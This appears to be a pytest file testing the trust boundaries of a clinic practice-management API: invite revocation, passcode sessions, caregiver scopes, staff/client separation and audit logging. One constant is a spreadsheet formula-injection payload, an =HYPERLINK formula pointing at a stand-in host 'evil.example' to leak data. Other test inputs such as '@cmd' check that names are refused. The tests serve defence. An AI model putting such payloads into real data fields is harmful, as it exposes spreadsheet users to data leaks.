"""Trust boundaries of issue #12: links die with the address they were sent to (R53), passcode
sessions stay in client accounts (R22), a caregiver's scopes bound the profile too (R33), a
login is never client and staff of one practice (R12), a formula never enters as a name
(R18), and the changes that matter are audited (R47, R48)."""

from __future__ import annotations

import re
from typing import Any

import pytest
from pydantic import TypeAdapter, ValidationError

from chalicelib.models.audit import AuditEvent
from chalicelib.models.links import Link, owner_for
from chalicelib.schemas.common import Name
from chalicelib.services.invites import passcodes
from tests.support.api import PASSWORD, Answer, Api, Practice, give_password, login
from tests.support.api import sign_up_practice as sign_up
from tests.support.family import caregiver_session, client_session, family, invite_path
from tests.support.invites import add_client, submit
from tests.support.invites import invite_path as client_invite_path
from tests.support.join import Browser, code_of, make_group, sign_up_fields
from tests.support.records import identity_of, stored

FORMULA = '=HYPERLINK("https://evil.example/?leak=1","Maya")'
CODE = 123456


def _client_path(practice: Practice, client_id: str, tail: str = "") -> str:
    return f"/v1/orgs/{practice.id}/clients/{client_id}{tail}"


# R53: a link dies when the email behind it changes ------------------------------------------


def test_r53_a_caregiver_invite_dies_when_staff_correct_the_caregivers_email(
    api: Api, practice: Practice
) -> None:
    # GIVEN a caregiver invite sent to a mistyped address
    fam = family(api, practice, accept=False)
    old_link = invite_path(practice.id, fam.caregiver)
    # WHEN staff correct the caregiver's email
    fixed = api.patch(
        _client_path(practice, fam.caregiver),
        {"email": "jordan.rivera@example.com"},
        practice.admin_token,
    )
    assert fixed.status == 200, fixed.body
    # THEN the old link is dead: its page says so, and its form neither sets the corrected
    # login's password nor binds the grant to anyone
    assert api.get(old_link).status == 410
    posted = submit(api, old_link, {"password": PASSWORD, "confirm": PASSWORD})
    assert posted.status == 410, posted.raw[:300]
    assert identity_of("jordan.rivera@example.com").password_hash is None
    held = stored(Link, owner_for(practice.id, fam.receiver), Link.sk_for(fam.link_id))
    assert held.grant_identity is None
    assert (held.portal_access or {}).get("status") == "pending"


def test_r53_a_client_invite_dies_when_staff_correct_the_clients_email(
    api: Api, practice: Practice
) -> None:
    client = add_client(api, practice, "maya@exmaple.com")
    old_link = client_invite_path(practice, client["id"])
    fixed = api.patch(
        _client_path(practice, client["id"]), {"email": "maya@example.com"}, practice.admin_token
    )
    assert fixed.status == 200, fixed.body
    assert api.get(old_link).status == 410
    shown = api.get(_client_path(practice, client["id"]), practice.admin_token).body["client"]
    assert shown["invite"]["status"] == "revoked"


# R22: a passcode session enters client accounts, and only those its code allowed -------------


def _client_with_codes(api: Api, practice: Practice, email: str) -> dict[str, Any]:
    api.patch(f"/v1/orgs/{practice.id}", {"settings": {"otp_login": True}}, practice.admin_token)
    client = add_client(api, practice, email, send_invite=False)
    give_password(email)
    return client


def _ask_code(api: Api, email: str, monkeypatch: pytest.MonkeyPatch) -> str:
    """The code asked for, known to the test by fixing the code's random source."""
    monkeypatch.setattr(passcodes.secrets, "randbelow", lambda _: CODE)
    assert api.post("/v1/auth/otp", {"email": email}).status == 202
    return f"{CODE:06d}"


def test_r22_a_code_whose_practice_turned_codes_off_meanwhile_enters_nothing(
    api: Api, practice: Practice, monkeypatch: pytest.MonkeyPatch
) -> None:
    # GIVEN Maya, client of Sunrise (codes on) and admin of her own practice
    email = "maya@example.com"
    _client_with_codes(api, practice, email)
    sign_up(api, "maya-studio", admin_email=email)
    code = _ask_code(api, email, monkeypatch)
    # WHEN Sunrise turns codes off before she types the code
    api.patch(f"/v1/orgs/{practice.id}", {"settings": {"otp_login": False}}, practice.admin_token)
    answer = api.post("/v1/auth/otp/verify", {"email": email, "code": code})
    # THEN the code opens no session at all, so no staff account can be entered with it
    assert (answer.status, answer.error_code()) == (401, "invalid_code")


def test_r22_a_code_whose_client_was_archived_meanwhile_enters_nothing(
    api: Api, practice: Practice, monkeypatch: pytest.MonkeyPatch
) -> None:
    email = "maya@example.com"
    client = _client_with_codes(api, practice, email)
    sign_up(api, "maya-studio", admin_email=email)
    code = _ask_code(api, email, monkeypatch)
    archived = api.post(_client_path(practice, client["id"], "/archive"), {}, practice.admin_token)
    assert archived.status == 200
    answer = api.post("/v1/auth/otp/verify", {"email": email, "code": code})
    assert (answer.status, answer.error_code()) == (401, "invalid_code")


def test_r22_a_passcode_session_never_switches_into_a_caregiver_or_staff_account(
    api: Api, practice: Practice, monkeypatch: pytest.MonkeyPatch
) -> None:
    # GIVEN Jordan: a client of Sunrise (codes on), caregiver of Sam there, admin elsewhere
    fam = family(api, practice)
    api.patch(f"/v1/orgs/{practice.id}", {"settings": {"otp_login": True}}, practice.admin_token)
    sign_up(api, "jordan-studio", admin_email=fam.caregiver_email)
    listed = login(api, fam.caregiver_email).body["accounts"]
    others = [a["account_id"] for a in listed if a["kind"] in {"caregiver", "staff"}]
    assert len(others) == 2
    code = _ask_code(api, fam.caregiver_email, monkeypatch)
    signed_in = api.post("/v1/auth/otp/verify", {"email": fam.caregiver_email, "code": code})
    assert signed_in.status == 200, signed_in.body
    assert [a["kind"] for a in signed_in.body["accounts"]] == ["client"]
    token = signed_in.body["token"]
    # THEN neither the caregiver account nor the staff account is entered with it
    for account_id in others:
        refused = api.post("/v1/auth/switch", {"account_id": account_id}, token)
        assert (refused.status, refused.error_code()) == (404, "account_not_found")
    assert [a["kind"] for a in api.get("/v1/me", token).body["accounts"]] == ["client"]


# R33: the profile's contact details and date of birth are a scope of their own ---------------

HIDDEN = ["dob", "email", "phone"]


def test_r33_a_bills_only_caregiver_sees_the_name_but_not_the_contact_details(
    api: Api, practice: Practice
) -> None:
    fam = family(
        api,
        practice,
        receiver_extra={"phone": "+1 555 0100", "dob": "1980-02-03"},
        portal_access={"acknowledged": True, "scopes": ["bills"]},
    )
    shown = api.get("/v1/portal/profile", caregiver_session(api, fam))
    assert shown.status == 200, shown.body
    profile = shown.body["profile"]
    assert (profile["first_name"], profile["hidden"]) == ("Sam", HIDDEN)
    assert not {"email", "phone", "dob"} & set(profile)


def test_r33_a_grant_with_the_profile_scope_sees_the_contact_details(
    api: Api, practice: Practice
) -> None:
    fam = family(
        api,
        practice,
        receiver_extra={"phone": "+1 555 0100", "dob": "1980-02-03"},
        portal_access={"acknowledged": True, "scopes": ["bills", "profile"]},
    )
    profile = api.get("/v1/portal/profile", caregiver_session(api, fam)).body["profile"]
    assert (profile["email"], profile["dob"], profile["hidden"]) == (
        "sam@example.com",
        "1980-02-03",
        [],
    )
    own = api.get("/v1/portal/profile", client_session(api, fam.caregiver_email)).body["profile"]
    assert (own["email"], own["hidden"]) == (fam.caregiver_email, [])


# R12: one practice never holds a login as client and staff ----------------------------------


def test_r12_unarchiving_a_client_whose_address_became_staff_is_refused(
    api: Api, practice: Practice
) -> None:
    client = add_client(api, practice, "lee@example.com", send_invite=False)
    api.post(_client_path(practice, client["id"], "/archive"), {}, practice.admin_token)
    provider = api.post(
        f"/v1/orgs/{practice.id}/providers",
        {"email": "lee@example.com", "first_name": "Lee", "last_name": "Park", "role": "provider"},
        practice.admin_token,
    )
    assert provider.status == 201, provider.body
    refused = api.post(_client_path(practice, client["id"], "/unarchive"), {}, practice.admin_token)
    assert (refused.status, refused.error_code()) == (409, "email_is_staff")
    assert "staff account" in refused.body["error"]["message"]
    shown = api.get(_client_path(practice, client["id"]), practice.admin_token).body["client"]
    assert shown["status"] == "archived"


# R18: a name that a spreadsheet would run is refused on every way in ------------------------


def _names(first: str) -> dict[str, str]:
    return {"first_name": first, "last_name": "Chen"}


def _ways_in(api: Api, practice: Practice, name: str) -> dict[str, Answer]:
    """Every way a person's name enters Portico, each given `name` as a first name."""
    org, token = f"/v1/orgs/{practice.id}", practice.admin_token
    slug = practice.org["slug"]
    sam = add_client(api, practice, "sam@example.com", send_invite=False)["id"]
    visitor = Browser(api)
    join = f"/join/{code_of(make_group(api, practice))}"
    admin = {"email": "new@example.com", "password": PASSWORD, **_names(name)}
    return {
        "client": api.post(f"{org}/clients", {**_names(name), "send_invite": False}, token),
        "client change": api.patch(f"{org}/clients/{sam}", {"first_name": name}, token),
        "contact": api.post(
            f"{org}/clients/{sam}/contacts", {**_names(name), "relationship": "parent"}, token
        ),
        "linked new client": api.post(
            f"{org}/clients/{sam}/links",
            {"new_client": _names(name), "relationship": "child"},
            token,
        ),
        "provider": api.post(
            f"{org}/providers",
            {"email": "pat@example.com", **_names(name), "role": "provider"},
            token,
        ),
        "booking": api.post(
            f"/v1/public/orgs/{slug}/bookings",
            {"email": "b@example.com", **_names(name), "starts_at": "2099-03-01T10:00:00Z"},
        ),
        "purchase": api.post(
            f"/v1/public/orgs/{slug}/purchases",
            {"email": "p@example.com", **_names(name), "package": "Five sessions"},
        ),
        "practice sign-up": api.post(
            "/v1/orgs", {"name": "Formula Physio", "slug": "formula", "admin": admin}
        ),
        "join page": visitor.post(join, sign_up_fields("j@example.com", first_name=name)),
    }


@pytest.mark.parametrize("name", ["+SUM(A1:A9)", "-2+3", "@cmd", "  =1+1", "Maya\tChen"])
def test_r18_the_name_type_refuses_what_a_spreadsheet_would_run(name: str) -> None:
    with pytest.raises(ValidationError):
        TypeAdapter(Name).validate_python(name)


@pytest.mark.parametrize("name", [FORMULA, "  @cmd"])
def test_r18_a_name_that_starts_a_formula_is_refused_on_every_way_in(
    api: Api, practice: Practice, name: str
) -> None:
    answers = _ways_in(api, practice, name)
    for way, answer in answers.items():
        assert answer.status == 400, (way, answer.status, answer.raw[:300])
        text = answer.raw.decode()
        assert "formula" in text, (way, text[:300])
    listed = api.get(f"/v1/orgs/{practice.id}/clients?status=all", practice.admin_token)
    assert [c["first_name"] for c in listed.body["clients"]] == ["Maya"]


def test_r18_ordinary_names_still_enter_every_way(api: Api, practice: Practice) -> None:
    # The rule refuses formulas, not names with these characters inside them.
    answers = _ways_in(api, practice, "Anne-Marie")
    refused = {way: a.status for way, a in answers.items() if a.status >= 400}
    assert refused == {}


# R47: the changes that matter are audited, with ids only (R48) ------------------------------


def _events(org_id: str, client_id: str | None = None) -> list[AuditEvent]:
    return list(AuditEvent.query(AuditEvent.subject_for(org_id, client_id)))


def _ids_only(event: AuditEvent) -> bool:
    return not re.search(r"@|Maya|Chen|\d{4}-\d{2}-\d{2}", str(event.details))


def test_r47_an_admin_setting_a_clients_password_is_audited(api: Api, practice: Practice) -> None:
    client = add_client(api, practice, "maya@example.com", send_invite=False)
    set_ = api.post(
        _client_path(practice, client["id"], "/password"),
        {"password": PASSWORD},
        practice.admin_token,
    )
    assert set_.status == 200, set_.body
    (event,) = [
        e for e in _events(practice.id, client["id"]) if e.action == "password.set_by_staff"
    ]
    assert event.actor.startswith("provider:")
    assert event.details == {"identity_id": identity_of("maya@example.com").id}


def test_r47_an_email_change_is_audited_with_both_logins_ids(api: Api, practice: Practice) -> None:
    client = add_client(api, practice, "maya@exmaple.com", send_invite=False)
    before = identity_of("maya@exmaple.com").id
    api.patch(
        _client_path(practice, client["id"]), {"email": "maya@example.com"}, practice.admin_token
    )
    (event,) = [e for e in _events(practice.id, client["id"]) if e.action == "client.email_changed"]
    assert event.details == {
        "from_identity_id": before,
        "to_identity_id": identity_of("maya@example.com").id,
    }
    assert _ids_only(event)


def test_r47_archive_and_unarchive_are_audited(api: Api, practice: Practice) -> None:
    client = add_client(api, practice, "maya@example.com", send_invite=False)
    api.post(_client_path(practice, client["id"], "/archive"), {}, practice.admin_token)
    api.post(_client_path(practice, client["id"], "/unarchive"), {}, practice.admin_token)
    actions = sorted(e.action for e in _events(practice.id, client["id"]))
    assert actions == ["client.added", "client.archived", "client.unarchived"]


def test_r47_adding_a_provider_is_audited(api: Api, practice: Practice) -> None:
    added = api.post(
        f"/v1/orgs/{practice.id}/providers",
        {"email": "lee@example.com", "first_name": "Lee", "last_name": "Park", "role": "staff"},
        practice.admin_token,
    ).body["provider"]
    (event,) = [e for e in _events(practice.id) if e.action == "provider.added"]
    assert event.details == {
        "provider_id": added["id"],
        "identity_id": identity_of("lee@example.com").id,
        "role": "staff",
    }
    assert event.actor.startswith("provider:")


def test_r47_plan_branding_and_settings_changes_are_audited(api: Api, practice: Practice) -> None:
    changed = api.patch(
        f"/v1/orgs/{practice.id}",
        {"plan": "plus", "branding": {"sender_name": "Sunrise"}, "settings": {"otp_login": True}},
        practice.admin_token,
    )
    assert changed.status == 200, changed.body
    (event,) = [e for e in _events(practice.id) if e.action == "org.updated"]
    assert event.details == {
        "plan": {"from": "starter", "to": "plus"},
        "fields": ["branding.sender_name", "plan", "settings.otp_login"],
    }
    listed = api.get(f"/v1/orgs/{practice.id}/audit", practice.admin_token).body["events"]
    assert "org.updated" in [e["action"] for e in listed]


def test_r47_a_groups_settings_change_is_audited(api: Api, practice: Practice) -> None:
    group = make_group(api, practice)
    changed = api.patch(
        f"/v1/orgs/{practice.id}/groups/{group['id']}",
        {"portal_settings": {"features": {"journal": False}}, "link_max_signups": 10},
        practice.admin_token,
    )
    assert changed.status == 200, changed.body
    (event,) = [e for e in _events(practice.id) if e.action == "group.updated"]
    assert event.details == {
        "group_id": group["id"],
        "fields": ["link_max_signups", "portal_settings"],
    }
